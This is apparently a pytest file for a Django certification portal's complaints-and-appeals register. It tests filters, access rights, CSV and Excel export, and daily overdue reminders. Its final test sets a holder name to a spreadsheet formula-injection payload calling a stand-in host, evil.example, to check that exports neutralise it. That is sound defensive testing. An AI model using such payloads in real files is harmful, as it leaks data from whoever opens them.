"""The body manager's register of complaints and appeals: filters (kind, status, overdue), deadlines,
the CSV and Excel export, and the daily reminder of overdue items (once a day per item)."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Application
from audits import services
from audits.models import Appeal, CaseStatus, Certificate, CertificationDecision, Complaint
from audits.services import complaints
from audits.tasks import send_case_overdue_reminders
from certportal.accounts.models import User
from notifications.models import Kind, Notification
from tests.conftest import client_for, put_in_status
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

TODAY = datetime.date(2026, 6, 1)


@pytest.fixture
def body_manager(db):
    return UserFactory(username="manager-a", role=User.Role.BODY_MANAGER, full_name="机构负责人甲")


@pytest.fixture
def handler(db):
    return UserFactory(username="auditor-free", role=User.Role.AUDITOR, full_name="独立审核员")


@pytest.fixture
def certificate(application, certifier) -> Certificate:
    put_in_status(application, Application.Status.CERTIFIED)
    decision = CertificationDecision.objects.create(
        application=application, outcome="certified", certifier=certifier, score=Decimal("925.50"),
        computed_star_level=4, star_level=4,
    )  # fmt: skip
    return services.certificate_issue(application=application, decision=decision, actor=certifier)


@pytest.fixture
def cases(certificate, enterprise_user, body_manager, handler):
    """An overdue complaint being handled, a closed complaint, and an appeal on time."""
    filing = complaints.ComplaintFiling(about="holder", name="张三", email="z@example.com", text="投诉一")
    overdue = complaints.complaint_file(certificate=certificate, filing=filing)
    complaints.complaint_assign(complaint=overdue, actor=body_manager, assignee=handler)
    Complaint.objects.filter(pk=overdue.pk).update(due_on=TODAY - datetime.timedelta(days=1))
    closed = complaints.complaint_file(certificate=certificate, filing=filing)
    complaints.complaint_assign(complaint=closed, actor=body_manager, assignee=handler)
    closed.refresh_from_db()
    complaints.complaint_answer(complaint=closed, actor=handler, answer="已处理。", outcome="upheld")
    Complaint.objects.filter(pk=closed.pk).update(due_on=TODAY - datetime.timedelta(days=5))
    appeal = complaints.appeal_file(application=certificate.application, actor=enterprise_user, against="star_level",
                                    grounds="有误。")  # fmt: skip
    Appeal.objects.filter(pk=appeal.pk).update(due_on=TODAY + datetime.timedelta(days=10))
    return {"overdue": overdue.reference, "closed": closed.reference, "appeal": appeal.reference}


def references(**filters) -> list[str]:
    return [row.reference for row in complaints.register_rows(today=TODAY, **filters)]


def test_the_register_filters_by_kind_status_and_overdue(cases) -> None:
    assert sorted(references()) == sorted(cases.values())
    assert references(kind="appeal") == [cases["appeal"]]
    assert sorted(references(kind="complaint")) == sorted([cases["overdue"], cases["closed"]])
    assert references(state=CaseStatus.CLOSED) == [cases["closed"]]
    assert references(overdue=True) == [cases["overdue"]]  # a closed one is never overdue
    assert references(kind="appeal", overdue=True) == []


def test_the_register_page_is_the_body_managers(
    cases, body_manager, handler, certifier, django_assert_max_num_queries
) -> None:
    client = client_for(body_manager)
    with django_assert_max_num_queries(15):
        page = client.get(reverse("audits:complaint_register"), {"kind": "complaint", "state": "assigned"})
    body = page.content.decode()
    assert cases["overdue"] in body and cases["appeal"] not in body and cases["closed"] not in body
    assert client_for(handler).get(reverse("audits:complaint_register")).status_code == 403
    assert client_for(certifier).get(reverse("audits:complaint_register")).status_code == 403


def test_the_csv_export_has_one_row_per_item_with_its_deadline(cases, body_manager) -> None:
    url = reverse("audits:complaint_register_export", args=["csv"])
    response = client_for(body_manager).get(url, {"kind": "complaint"})
    assert response["Content-Disposition"].startswith("attachment")
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, rows = lines[0], lines[1:]
    assert len(header) == 12
    assert sorted(row[1] for row in rows) == sorted([cases["overdue"], cases["closed"]])
    closed = next(row for row in rows if row[1] == cases["closed"])
    assert closed[7] == (TODAY - datetime.timedelta(days=5)).isoformat()
    assert closed[11] != ""  # when it was answered


def test_the_excel_export_holds_the_same_rows(cases, body_manager) -> None:
    response = client_for(body_manager).get(reverse("audits:complaint_register_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert len(values) == 1 + 3
    assert sorted(str(row[1]) for row in values[1:]) == sorted(cases.values())


def test_an_unknown_export_format_is_not_found(body_manager) -> None:
    url = reverse("audits:complaint_register_export", args=["pdf"])
    assert client_for(body_manager).get(url).status_code == 404


def test_overdue_items_are_reminded_once_a_day(cases, handler, body_manager, certificate) -> None:
    # An unassigned overdue complaint goes to the body managers.
    filing = complaints.ComplaintFiling(about="body", name="李四", email="l@example.com", text="投诉二")
    waiting = complaints.complaint_file(certificate=certificate, filing=filing)
    Complaint.objects.filter(pk=waiting.pk).update(due_on=TODAY - datetime.timedelta(days=2))
    assert send_case_overdue_reminders(TODAY.isoformat()) == 2
    assert send_case_overdue_reminders(TODAY.isoformat()) == 0
    assert Notification.objects.filter(recipient=handler, kind=Kind.CASE_OVERDUE).count() == 1
    assert Notification.objects.filter(recipient=body_manager, kind=Kind.CASE_OVERDUE).count() == 1
    tomorrow = TODAY + datetime.timedelta(days=1)
    assert send_case_overdue_reminders(tomorrow.isoformat()) == 2
    assert Notification.objects.filter(recipient=handler, kind=Kind.CASE_OVERDUE).count() == 2


def test_the_reminder_runs_daily_from_the_beat_schedule(settings) -> None:
    tasks = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert "audits.tasks.send_case_overdue_reminders" in tasks


def test_the_exports_never_carry_a_formula_from_a_holders_name(cases, body_manager, certificate) -> None:
    """A holder registered as a formula is written as text in the CSV and the workbook."""
    from audits.models import Certificate

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    Certificate.objects.filter(pk=certificate.pk).update(holder_name=hostile)
    client = client_for(body_manager)
    text = client.get(reverse("audits:complaint_register_export", args=["csv"])).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith("=") for cell in cells)
    assert any(hostile in cell for cell in cells)  # kept, as text
    workbook = client.get(reverse("audits:complaint_register_export", args=["xlsx"])).content
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
